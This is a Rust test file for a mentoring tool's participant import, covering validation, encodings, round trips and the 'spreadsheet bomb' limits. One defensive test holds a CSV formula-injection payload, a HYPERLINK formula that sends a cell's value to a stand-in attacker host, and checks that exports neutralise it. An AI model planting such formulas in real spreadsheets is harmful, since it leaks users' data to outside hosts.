//! Participants and the import of real spreadsheet files: every bad-input
//! case names its row and column, and a failed import changes nothing.

use klik::Store;
use klik::i18n::Texts;
use klik::participant::{self, Query, Role, import};
use klik::programme::ProgrammeId;

const HEADER_NL: &str = "rol;voornaam;achternaam;e-mail;leidinggevende e-mail;capaciteit;jaren ervaring;beschikbaarheid";

fn setup() -> (Store, ProgrammeId) {
    super::programme_in_memory("Mentoring 2027")
}

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(format!(
        "{}/tests/it/fixtures/{name}",
        env!("CARGO_MANIFEST_DIR")
    ))
    .unwrap()
}

/// The problem lines of a preview, in English.
fn problems(store: &Store, programme: ProgrammeId, csv: &str) -> Vec<String> {
    let preview = import::preview(store, programme, csv.as_bytes(), None).unwrap();
    preview.problem_lines(&Texts::for_language("en"))
}

fn rows(lines: &[&str]) -> String {
    let mut text = HEADER_NL.to_string();
    for line in lines {
        text.push_str("\r\n");
        text.push_str(line);
    }
    text
}

#[test]
fn the_dutch_sample_imports_whole_and_twice_changes_nothing() {
    let (mut store, id) = setup();
    let bytes = fixture("deelnemers-demo.csv");
    let preview = import::preview(&store, id, &bytes, None).unwrap();
    assert!(
        preview.is_clean(),
        "{:?}",
        preview.problem_lines(&Texts::for_language("en"))
    );
    assert_eq!(
        preview.columns.unknown,
        Vec::<String>::new(),
        "every Dutch header is understood"
    );
    let summary = import::apply(&mut store, id, &preview, false, super::now()).unwrap();
    assert_eq!(summary.added, 55);
    let counts = participant::counts(&store, id).unwrap();
    assert_eq!(counts.mentors + counts.mentees, 55);

    let again = import::preview(&store, id, &bytes, None).unwrap();
    let summary = again.summary();
    assert_eq!(
        (summary.added, summary.updated, summary.unchanged),
        (0, 0, 55),
        "a second import changes nothing"
    );
    let before = participant::all(&store, id).unwrap();
    import::apply(&mut store, id, &again, false, super::now()).unwrap();
    assert_eq!(participant::all(&store, id).unwrap(), before);

    let arne = before
        .iter()
        .find(|p| p.enrolment.email == "arne.ozturk@devries-logistiek.be")
        .unwrap();
    assert_eq!(arne.enrolment.last_name, "Öztürk");
    assert_eq!(
        arne.enrolment.availability.to_string(),
        "mon 08:00-11:00, tue 15:00-18:00"
    );
    assert_eq!(
        arne.enrolment.topics,
        vec!["feedback geven", "klantgerichtheid"]
    );
}

#[test]
fn the_english_sample_with_commas_and_quotes_imports() {
    let (mut store, id) = setup();
    let preview = import::preview(&store, id, &fixture("participants-small-en.csv"), None).unwrap();
    assert!(
        preview.is_clean(),
        "{:?}",
        preview.problem_lines(&Texts::for_language("en"))
    );
    import::apply(&mut store, id, &preview, false, super::now()).unwrap();
    let page = participant::page(
        &store,
        id,
        &Query {
            search: "zoë".into(),
            limit: 50,
            ..Query::default()
        },
    )
    .unwrap();
    assert_eq!(page.rows.len(), 1, "search finds Zoë regardless of case");
    assert_eq!(page.rows[0].enrolment.role, Role::Mentor);
    let marie = participant::all(&store, id)
        .unwrap()
        .into_iter()
        .find(|p| p.enrolment.email == "marie.celik@northwind-care.example")
        .unwrap();
    assert_eq!(
        marie.enrolment.manager_email.as_deref(),
        Some("marie.hermans@northwind-care.example")
    );
}

#[test]
fn every_bad_row_is_named_with_row_and_column() {
    let (mut store, id) = setup();
    let csv = rows(&[
        "mentee;;Peeters;leeg@x.be;;;;",
        "mentee;Jan;Peeters;jan@;;;;",
        "mentee;An;Claes;an@x.be;;;;",
        "mentee;An;Claes;AN@x.be;;;;",
        "boss;Piet;Maes;piet@x.be;;;;",
        "mentor;Mia;Wouters;mia@x.be;;0;;",
        "mentor;Tom;Wouters;tom@x.be;;99;;",
        "mentor;Lien;Wouters;lien@x.be;;twee;;",
        "mentee;Sam;Smet;sam@x.be;;;-3;",
        "mentee;Kim;Smet;kim@x.be;;;;someday 9-12",
        "mentee;Bo;Smet;bo@x.be;nobody@x.be;;;",
        "mentee;Ann;Aa;ann@x.be;bert@x.be;;;",
        "mentee;Bert;Bb;bert@x.be;ann@x.be;;;",
    ]);
    let found = problems(&store, id, &csv);
    assert_eq!(
        found,
        vec![
            "row 2, column voornaam: This field is required.",
            "row 3, column e-mail: “jan@” is not an e-mail address.",
            "row 5, column e-mail: This e-mail address is already on row 4.",
            "row 6, column rol: “boss” is not a role; write mentor or mentee.",
            "row 7, column capaciteit: “0” must be a whole number from 1 to 20.",
            "row 8, column capaciteit: “99” must be a whole number from 1 to 20.",
            "row 9, column capaciteit: “twee” must be a whole number from 1 to 20.",
            "row 10, column jaren ervaring: “-3” must be a whole number from 0 to 70.",
            "row 11, column beschikbaarheid: “someday 9-12” does not start with a day of the week (mon, tue, … or ma, di, …).",
            "row 12, column leidinggevende e-mail: Nobody with the e-mail address “nobody@x.be” is in this file or in Klik.",
            "row 13, column leidinggevende e-mail: The reporting line of ann@x.be loops back to them (A manages B manages A).",
            "row 14, column leidinggevende e-mail: The reporting line of bert@x.be loops back to them (A manages B manages A).",
        ]
    );
    let preview = import::preview(&store, id, csv.as_bytes(), None).unwrap();
    let refused = import::apply(&mut store, id, &preview, false, super::now()).unwrap_err();
    assert_eq!(refused.field_errors()[0].key, "error.import.has_problems");
    assert_eq!(
        participant::counts(&store, id).unwrap().mentees,
        0,
        "a refused import writes nothing"
    );

    let summary = import::apply(&mut store, id, &preview, true, super::now()).unwrap();
    assert_eq!(
        (summary.added, summary.skipped),
        (1, 12),
        "only the valid row (An Claes) goes in"
    );
}

#[test]
fn whole_file_problems_get_one_clear_message() {
    let (store, id) = setup();
    let message = |bytes: &[u8]| {
        import::preview(&store, id, bytes, None)
            .unwrap_err()
            .message(&Texts::for_language("en"))
    };
    assert_eq!(message(b""), "File: The file is empty.");
    assert_eq!(
        message(b"%PDF-1.7\n%binary"),
        "File: This file is not a CSV or Excel file."
    );
    assert_eq!(
        message(HEADER_NL.as_bytes()),
        "File: The file has column headers but no rows."
    );
    assert_eq!(
        message(b"voornaam;achternaam\nJan;Peeters\n"),
        "File: Klik found no row with the column names it needs; missing: “role”, “email”. Put these names in the header row (a title above it is fine), or start from the import template."
    );
    let ole = {
        let mut bytes = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
        bytes.extend("EncryptedPackage".encode_utf16().flat_map(u16::to_le_bytes));
        bytes
    };
    assert!(message(&ole).contains("protected with a password"));
    let big = vec![b'a'; klik::tabular::MAX_BYTES + 10];
    assert!(message(&big).contains("Klik reads files up to 20 MB"));
}

#[test]
fn an_update_shows_what_changes_and_keeps_the_person_single() {
    let (mut store, id) = setup();
    let first = rows(&["mentor;Marie;Dubois;marie@x.be;;2;10;ma 9-12"]);
    let preview = import::preview(&store, id, first.as_bytes(), None).unwrap();
    import::apply(&mut store, id, &preview, false, super::now()).unwrap();
    let second = rows(&["mentor;Marie;Dubois;MARIE@x.be;;3;10;ma 9-12"]);
    let preview = import::preview(&store, id, second.as_bytes(), None).unwrap();
    assert_eq!(preview.rows[0].changed_fields, vec!["email", "capacity"]);
    let summary = import::apply(&mut store, id, &preview, false, super::now()).unwrap();
    assert_eq!(summary.updated, 1);
    let all = participant::all(&store, id).unwrap();
    assert_eq!(all.len(), 1, "the e-mail is the key, whatever its case");
    assert_eq!(all[0].enrolment.capacity, Some(3));
}

#[test]
fn export_then_import_round_trips_in_csv_and_xlsx() {
    let (mut store, id) = setup();
    let preview = import::preview(&store, id, &fixture("deelnemers-demo.csv"), None).unwrap();
    import::apply(&mut store, id, &preview, false, super::now()).unwrap();
    let rows = import::export_rows(&store, id, "nl").unwrap();
    assert_eq!(rows.len(), 56);
    for bytes in [
        klik::tabular::write_csv(&rows),
        klik::tabular::write_xlsx("Deelnemers", &rows).unwrap(),
    ] {
        let again = import::preview(&store, id, &bytes, None).unwrap();
        assert!(again.is_clean());
        assert_eq!(
            again.summary().unchanged,
            55,
            "exported values read back as the same participants"
        );
    }
}

#[test]
fn the_template_imports_cleanly_in_every_language() {
    for language in ["nl", "en", "fr"] {
        let (mut store, id) = setup();
        let rows = import::template_rows(language);
        let preview = import::preview(&store, id, &klik::tabular::write_csv(&rows), None).unwrap();
        assert!(
            preview.is_clean(),
            "{language}: {:?}",
            preview.problem_lines(&Texts::for_language("en"))
        );
        assert_eq!(
            import::apply(&mut store, id, &preview, false, super::now())
                .unwrap()
                .added,
            2
        );
    }
}

#[test]
fn the_table_filters_sorts_and_pages() {
    let (mut store, id) = setup();
    let preview = import::preview(&store, id, &fixture("deelnemers-demo.csv"), None).unwrap();
    import::apply(&mut store, id, &preview, false, super::now()).unwrap();
    let mentors = participant::page(
        &store,
        id,
        &Query {
            role: Some(Role::Mentor),
            limit: 500,
            ..Query::default()
        },
    )
    .unwrap();
    assert!(
        mentors
            .rows
            .iter()
            .all(|p| p.enrolment.role == Role::Mentor)
    );
    assert_eq!(mentors.matching, mentors.counts.mentors);
    let first = participant::page(
        &store,
        id,
        &Query {
            limit: 10,
            ..Query::default()
        },
    )
    .unwrap();
    let second = participant::page(
        &store,
        id,
        &Query {
            limit: 10,
            offset: 10,
            ..Query::default()
        },
    )
    .unwrap();
    assert_eq!((first.rows.len(), first.matching), (10, 55));
    assert!(
        first
            .rows
            .last()
            .unwrap()
            .enrolment
            .last_name
            .to_lowercase()
            <= second.rows[0].enrolment.last_name.to_lowercase()
    );
    let topic = participant::page(
        &store,
        id,
        &Query {
            topic: Some("leiderschap".into()),
            limit: 500,
            ..Query::default()
        },
    )
    .unwrap();
    assert!(
        topic
            .rows
            .iter()
            .all(|p| p.enrolment.topics.iter().any(|t| t == "leiderschap"))
    );
    assert!(topic.matching > 0);
    assert!(
        participant::topics(&store, id)
            .unwrap()
            .contains(&"Excel en data".to_string())
    );
}

#[test]
fn files_saved_by_libreoffice_import_like_the_original() {
    // Made with: soffice --headless --infilter="CSV:59,34,76,1" --convert-to xlsx deelnemers-demo.csv
    // and: soffice --headless --convert-to 'csv:Text - txt - csv (StarCalc):59,34,1' deelnemers-demo.xlsx
    let (mut store, id) = setup();
    let original = import::preview(&store, id, &fixture("deelnemers-demo.csv"), None).unwrap();
    import::apply(&mut store, id, &original, false, super::now()).unwrap();
    let xlsx = import::preview(
        &store,
        id,
        &fixture("libreoffice/deelnemers-demo.xlsx"),
        None,
    )
    .unwrap();
    assert!(
        xlsx.is_clean(),
        "{:?}",
        xlsx.problem_lines(&Texts::for_language("en"))
    );
    assert_eq!(
        xlsx.summary().unchanged,
        55,
        "the XLSX holds the same 55 people, diacritics and all"
    );

    // Windows-1252 cannot hold the Turkish dotless ı: LibreOffice writes "Y?lmaz".
    // Klik reads every other letter (ë, é, Ö, Ü, Ç, ‘ ’) correctly, keeps the
    // three stored names and warns on each of those rows, so the officer sees
    // it before importing and nothing is damaged.
    let cp1252 = import::preview(
        &store,
        id,
        &fixture("libreoffice/deelnemers-demo-windows1252.csv"),
        None,
    )
    .unwrap();
    assert!(cp1252.is_clean());
    assert_eq!(cp1252.summary().unchanged, 55);
    let warnings = cp1252.warning_lines(&Texts::for_language("en"));
    assert_eq!(warnings.len(), 3, "{warnings:?}");
    assert!(
        warnings
            .iter()
            .all(|w| w.contains("column achternaam: “Y?lmaz” lost letters")
                && w.ends_with("Klik keeps “Yılmaz”.")),
        "{warnings:?}"
    );
}

/// Two programmes in one store: Hanne takes part in the first with all her details.
fn two_programmes() -> (Store, ProgrammeId, ProgrammeId) {
    let (mut store, first) = super::programme_in_memory("Mentoring 2026");
    let draft = klik::programme::ProgrammeForm {
        name: "Starters 2027".into(),
        start: "04-01-2027".into(),
        end: "17-12-2027".into(),
        ..klik::programme::ProgrammeForm::default()
    }
    .validate()
    .unwrap();
    let second = klik::programme::create(&mut store, &draft, super::now()).unwrap();
    let full = "role;first name;last name;email;phone;department;job title;location;languages;years of experience;availability\r\n\
                mentor;Hanne;Janssens;hanne.janssens@example.be;+32 470 11 22 33;Finance;Controller;Gent;nl, fr;12;mon 09:00-12:00\r\n\
                mentee;Emre;Yılmaz;emre.yilmaz@example.be;;Logistics;Planner;Antwerpen;nl, tr;2;tue 10:00-12:00\r\n";
    import_csv(&mut store, first, full);
    (store, first, second)
}

fn import_csv(store: &mut Store, programme: ProgrammeId, csv: &str) -> import::Summary {
    let preview = import::preview(store, programme, csv.as_bytes(), None).unwrap();
    assert!(
        preview.is_clean(),
        "{:?}",
        preview.problem_lines(&Texts::for_language("en"))
    );
    import::apply(store, programme, &preview, false, super::now()).unwrap()
}

fn hanne(store: &Store, programme: ProgrammeId) -> participant::Enrolment {
    participant::all(store, programme)
        .unwrap()
        .into_iter()
        .find(|p| p.enrolment.email == "hanne.janssens@example.be")
        .expect("Hanne takes part")
        .enrolment
}

#[test]
fn an_import_with_fewer_columns_never_empties_a_person_in_another_programme() {
    let (mut store, first, second) = two_programmes();
    let before = hanne(&store, first);
    let summary = import_csv(
        &mut store,
        second,
        "role;first name;last name;email\r\nmentor;Hanne;Janssens;hanne.janssens@example.be\r\n",
    );
    assert_eq!(
        (summary.added, summary.updated),
        (1, 0),
        "Hanne joins the second programme and nothing of her changes"
    );
    assert_eq!(
        hanne(&store, first),
        before,
        "the first programme is untouched"
    );
    // The form in the second programme says where else her details show.
    let in_second = participant::all(&store, second)
        .unwrap()
        .into_iter()
        .find(|p| p.enrolment.email == "hanne.janssens@example.be")
        .unwrap();
    assert_eq!(
        participant::other_programmes(&store, in_second.id).unwrap(),
        ["Mentoring 2026"]
    );
    let joined = hanne(&store, second);
    assert_eq!(joined.phone, "+32 470 11 22 33");
    assert_eq!(joined.job_title, "Controller");
    assert_eq!(joined.location, "Gent");
    assert_eq!(joined.languages, vec!["fr", "nl"]);
    assert_eq!(joined.years_of_experience, Some(12));

    // An empty cell in a column the file has keeps what is known...
    let empty_cells = "role;first name;last name;email;phone;location\r\nmentor;Hanne;Janssens;hanne.janssens@example.be;;\r\n";
    let preview = import::preview(&store, second, empty_cells.as_bytes(), None).unwrap();
    assert_eq!(preview.summary().unchanged, 1);
    // ...unless the officer asks that empty cells clear the field.
    let preview = import::preview_with(
        &store,
        second,
        empty_cells.as_bytes(),
        None,
        import::Options { clear_empty: true },
    )
    .unwrap();
    assert_eq!(preview.summary().updated, 1);
    assert_eq!(preview.rows[0].changed_fields, vec!["phone", "location"]);
    assert_eq!(preview.rows[0].also_changes, vec!["Mentoring 2026"]);
    import::apply(&mut store, second, &preview, false, super::now()).unwrap();
    assert_eq!(hanne(&store, first).phone, "", "details are the person's");
}

#[test]
fn a_change_to_a_shared_person_is_counted_and_named_with_the_other_programme() {
    let (mut store, first, second) = two_programmes();
    let csv = "role;first name;last name;email;job title\r\nmentor;Hanne;Janssens;hanne.janssens@example.be;Head of finance\r\n";
    let preview = import::preview(&store, second, csv.as_bytes(), None).unwrap();
    let summary = preview.summary();
    assert_eq!(
        (summary.added, summary.updated, summary.unchanged),
        (0, 1, 0),
        "a change to someone known is an update, never 'added 0, updated 0'"
    );
    assert_eq!(preview.rows[0].changed_fields, vec!["job_title"]);
    assert_eq!(
        preview.shared_lines(&Texts::for_language("en")),
        vec!["row 2: also changes Hanne Janssens in Mentoring 2026"]
    );
    assert_eq!(
        preview.shared_lines(&Texts::for_language("nl")),
        vec!["rij 2: wijzigt ook Hanne Janssens in Mentoring 2026"]
    );
    import::apply(&mut store, second, &preview, false, super::now()).unwrap();
    assert_eq!(hanne(&store, first).job_title, "Head of finance");
}

#[test]
fn a_name_with_letters_lost_in_windows_1252_never_overwrites_the_stored_name() {
    let (mut store, first, second) = two_programmes();
    // What Excel writes as "CSV (separated by semicolons)" on a Western
    // Windows: 'ı' does not exist in Windows-1252 and became '?', while 'ë'
    // (0xEB) did survive.
    let mut file = b"role;first name;last name;email;department\r\n".to_vec();
    file.extend_from_slice(b"mentee;Emre;Y?lmaz;emre.yilmaz@example.be;Logistiek Zo\xEB\r\n");
    let preview = import::preview(&store, second, &file, None).unwrap();
    assert!(preview.is_clean());
    assert_eq!(
        preview.warning_lines(&Texts::for_language("en")),
        vec![
            "row 2, column last name: “Y?lmaz” lost letters in the file’s encoding; Klik keeps “Yılmaz”."
        ]
    );
    assert_eq!(preview.rows[0].changed_fields, vec!["department"]);
    import::apply(&mut store, second, &preview, false, super::now()).unwrap();
    for programme in [first, second] {
        let emre = participant::all(&store, programme)
            .unwrap()
            .into_iter()
            .find(|p| p.enrolment.email == "emre.yilmaz@example.be")
            .unwrap();
        assert_eq!(emre.enrolment.last_name, "Yılmaz");
        assert_eq!(emre.enrolment.department, "Logistiek Zoë");
    }
}

#[test]
fn reimporting_an_export_of_one_programme_into_another_changes_nothing_in_the_first() {
    let mut store = Store::open_in_memory().unwrap();
    let demo = klik::demo::populate(&mut store, super::now()).unwrap();
    let first = demo.running;
    let second = demo.programmes[1];
    let export =
        |store: &Store| klik::tabular::write_csv(&import::export_rows(store, first, "nl").unwrap());
    let before = export(&store);
    let preview = import::preview(&store, second, &before, None).unwrap();
    assert!(preview.is_clean());
    assert!(
        preview.rows.iter().all(|r| r.also_changes.is_empty()),
        "the export changes no one's details"
    );
    import::apply(&mut store, second, &preview, false, super::now()).unwrap();
    assert_eq!(
        export(&store),
        before,
        "programme 1's export is byte for byte the same"
    );
}

#[test]
fn a_title_row_or_an_excel_separator_line_above_the_header_is_passed_over() {
    let (store, id) = setup();
    let titled = "Deelnemers voorjaar;;;\r\n;;;\r\nrol;voornaam;achternaam;e-mail\r\nmentor;An;Peeters;an@example.be\r\n";
    let preview = import::preview(&store, id, titled.as_bytes(), None).unwrap();
    assert!(preview.is_clean());
    assert_eq!(preview.rows.len(), 1);
    assert_eq!(
        preview.rows[0].row, 4,
        "rows keep the spreadsheet's numbers"
    );

    let separated = "sep=,\r\nrole,first name,last name,email\r\nmentee,Bo,Claes,bo@example.be\r\n";
    let preview = import::preview(&store, id, separated.as_bytes(), None).unwrap();
    assert!(preview.is_clean());
    assert_eq!(preview.rows[0].form.last_name, "Claes");
}

#[test]
fn without_a_header_the_message_names_the_columns_in_the_readers_language() {
    let (store, id) = setup();
    let error =
        import::preview(&store, id, b"naam;mail\r\nAn;an@example.be\r\n", None).unwrap_err();
    let nl = error.message(&Texts::for_language("nl"));
    assert!(nl.contains("ontbrekend: “rol”, “voornaam”."), "{nl}");
    assert!(!nl.contains("first_name"), "{nl}");
    let fr = error.message(&Texts::for_language("fr"));
    assert!(fr.contains("“prénom”"), "{fr}");
}

#[test]
fn a_renamed_word_document_gets_a_message_wholly_in_the_readers_language() {
    let (store, id) = setup();
    // A .docx is a zip with word/document.xml and no workbook.
    let mut docx = b"PK\x03\x04".to_vec();
    docx.extend_from_slice(b"\x14\x00\x00\x00\x08\x00word/document.xml some compressed bytes");
    let error = import::preview(&store, id, &docx, None).unwrap_err();
    assert_eq!(
        error.message(&Texts::for_language("nl")),
        "Bestand: Dit bestand is geen CSV- of Excel-bestand."
    );
}

#[test]
fn an_export_never_carries_a_live_formula_and_imports_back_as_it_was() {
    let (mut store, id) = setup();
    let csv = "role;first name;last name;email;phone;department\r\n\
               mentee;\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1;\"\"klik\"\")\";@SUM(1+1);evil@example.be;+32 470 12 34 56;-2+3\r\n";
    import_csv(&mut store, id, csv);
    let rows = import::export_rows(&store, id, "en").unwrap();
    let bytes = klik::tabular::write_csv(&rows);
    let text = String::from_utf8_lossy(&bytes).into_owned();
    assert!(text.contains("\"'=HYPERLINK("), "{text}");
    assert!(text.contains(";'@SUM(1+1);"), "{text}");
    assert!(text.contains(";'-2+3"), "{text}");
    assert!(
        text.contains(";+32 470 12 34 56;"),
        "a phone number stays as it is: {text}"
    );

    // LibreOffice, as an officer would open the file: text, never a formula.
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("export.csv");
    std::fs::write(&file, &bytes).unwrap();
    let profile = format!(
        "-env:UserInstallation=file://{}/profile",
        dir.path().display()
    );
    let converted = std::process::Command::new("soffice")
        .args([
            profile.as_str(),
            "--headless",
            "--infilter=CSV:59,34,76,1",
            "--convert-to",
            "xlsx",
            "--outdir",
        ])
        .arg(dir.path())
        .arg(&file)
        .output()
        .expect("LibreOffice (soffice) must be installed");
    assert!(converted.status.success(), "{converted:?}");
    let xlsx = std::fs::read(dir.path().join("export.xlsx")).unwrap();
    // Read back as LibreOffice wrote it: the name is text, apostrophe and all.
    let table = klik::tabular::read(&xlsx, None).unwrap();
    assert_eq!(
        table.rows[1].cells[1], "'=HYPERLINK(\"http://evil.example/?\"&A1;\"klik\")",
        "{:?}",
        table.rows
    );
    use calamine::Reader;
    let mut book = calamine::open_workbook_auto_from_rs(std::io::Cursor::new(xlsx)).unwrap();
    let first = book.sheet_names()[0].clone();
    let formulas = book.worksheet_formula(&first).unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no cell is a formula: {:?}",
        formulas.used_cells().collect::<Vec<_>>()
    );

    // Imported again, every value is what it was.
    let preview = import::preview(&store, id, &bytes, None).unwrap();
    assert!(preview.is_clean());
    assert_eq!(
        preview.summary().unchanged,
        1,
        "{:?}",
        preview.rows[0].changed_fields
    );
}

#[test]
fn search_finds_an_underscore_and_a_percent_as_typed() {
    let (mut store, id) = setup();
    import_csv(
        &mut store,
        id,
        "role;first name;last name;email\r\nmentee;An;De Smet;an_de@x.be\r\nmentee;Anne;Dekker;anxde@x.be\r\nmentee;Bo;Honderd%;bo@x.be\r\nmentee;Bob;Honderdje;bob@x.be\r\n",
    );
    let found = |search: &str| -> Vec<String> {
        participant::page(
            &store,
            id,
            &Query {
                search: search.into(),
                limit: 50,
                ..Query::default()
            },
        )
        .unwrap()
        .rows
        .into_iter()
        .map(|p| p.enrolment.email)
        .collect()
    };
    assert_eq!(
        found("an_de"),
        ["an_de@x.be"],
        "the underscore is no wildcard"
    );
    assert_eq!(found("honderd%"), ["bo@x.be"], "nor is the percent sign");
}

/// Runs `klik` with `args` and returns its exit code, its standard error
/// and its peak memory (maximum resident set) in kilobytes, as the kernel
/// counted it for that one process.
// The child is reaped by wait4 below, which also gives its rusage; std's
// own wait would reap it first and lose the figure.
#[allow(clippy::zombie_processes)]
fn klik_with_peak(args: &[&str]) -> (Option<i32>, String, i64) {
    use std::io::Read;
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_klik"))
        .args(args)
        .env("KLIK_NOW", "2026-11-28T10:00:00")
        .env("LANG", "en_GB.UTF-8")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut stderr = String::new();
    child
        .stderr
        .take()
        .unwrap()
        .read_to_string(&mut stderr)
        .unwrap();
    let mut status = 0;
    // SAFETY: wait4 on our own child, not yet reaped; rusage is plain data.
    let mut usage: libc::rusage = unsafe { std::mem::zeroed() };
    let pid = child.id() as libc::pid_t;
    let waited = unsafe { libc::wait4(pid, &mut status, 0, &mut usage) };
    assert_eq!(waited, pid);
    let code = libc::WIFEXITED(status).then(|| libc::WEXITSTATUS(status));
    (code, stderr, usage.ru_maxrss)
}

#[test]
fn spreadsheet_bombs_get_a_clear_message_within_bounded_memory() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("klik.sqlite");
    super::cli::klik_ok(
        &db,
        &[
            "programme",
            "create",
            "--name",
            "Bommen",
            "--start",
            "04-01-2027",
            "--end",
            "17-12-2027",
        ],
    );
    // A tiny workbook whose cells span A1 to XFD1048576.
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (column, header) in ["role", "first name", "last name", "email"]
        .iter()
        .enumerate()
    {
        sheet.write_string(0, column as u16, *header).unwrap();
    }
    sheet.write_string(1_048_575, 16_383, "x").unwrap();
    let xlsx = dir.path().join("bomb.xlsx");
    std::fs::write(&xlsx, book.save_to_buffer().unwrap()).unwrap();
    assert!(std::fs::metadata(&xlsx).unwrap().len() < 20_000);
    // An old .xls (saved by LibreOffice) with a cell in row 60,000, column 251.
    let xls = super::fixture_path("bombs/wide.xls");
    for file in [xlsx.to_str().unwrap(), xls.as_str()] {
        let (code, stderr, peak_kb) = klik_with_peak(&[
            "--db",
            db.to_str().unwrap(),
            "participants",
            "import",
            file,
            "--programme",
            "1",
            "--dry-run",
        ]);
        eprintln!("{file}: peak {} MB", peak_kb / 1024);
        assert_eq!(code, Some(1), "a refusal, not a crash: {stderr}");
        assert!(
            stderr.contains("This sheet is too big for a list of participants"),
            "{stderr}"
        );
        assert!(peak_kb < 200 * 1024, "{file}: peak memory {peak_kb} kB");
    }
}
